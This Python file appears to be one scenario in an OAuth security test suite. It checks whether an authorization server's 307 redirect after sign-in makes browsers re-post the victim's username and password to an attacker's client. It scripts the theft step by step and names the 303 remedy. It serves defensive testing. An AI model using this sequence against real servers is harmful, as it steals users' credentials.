"""The victim signs in to use the attacker's app, and the server sends the password on to the app.

RFC 9700 section 4.12. After the sign-in form the server redirects the browser to the client. With
the status 307 a browser repeats what it did, and posts user name and password there. Any app whose
users need not be asked again will do; the victim has allowed this one before.
"""

from attacker.own_client import OWN_WEB_CLIENT_ID, OWN_WEB_REDIRECT_URI
from attacker.vantage import OWN_ACCOUNT
from reports.records import Proof, Refusal
from scenarios.model.rule import Rule
from scenarios.needs import Need
from scenarios.play import Play
from scenarios.registry import scenario

_TORCH = {"client_id": OWN_WEB_CLIENT_ID, "redirect_uri": OWN_WEB_REDIRECT_URI}
_AGAIN = {**_TORCH, "prompt": "login"}


@scenario(
    title="The redirect after the sign-in does not tell the client the user's password",
    vantage=OWN_ACCOUNT,
    clauses=("RFC9700#4.12",),
    remedy="Answer the sign-in form with the status 303, and never with 307.",
    attack=(
        Rule(
            "the browser is sent on by a 303, which makes it forget the form",
            bent_by=("sign_in_redirected_with_307",),
        ),
    ),
    proof=Proof.SESSION,
    refusals=(Refusal.FORGOTTEN,),
    needs=(Need.OWN_DOINGS,),
)
async def password_in_redirect(play: Play) -> None:
    """Have the victim sign in for the own app, and sign in with what arrives there."""
    async with play.step("The victim tries the attacker's app, and allows it what it asks"):
        await play.thief.study_client()
        await play.victim.follow(play.thief.build_authorization_request((), **_TORCH))
    async with play.step("The attacker looks at its own session at the client: nobody is there"):
        await play.injector.look_at_session()
    async with play.step("The app has the victim sign in once more"):
        await play.victim.follow(play.thief.build_authorization_request((), **_AGAIN))
    async with play.step("The attacker signs in at the client with what its app was sent"):
        loot = play.thief.loot
        await play.injector.sign_in_with(loot.find("username"), loot.find("password"))
        await play.injector.look_at_session()
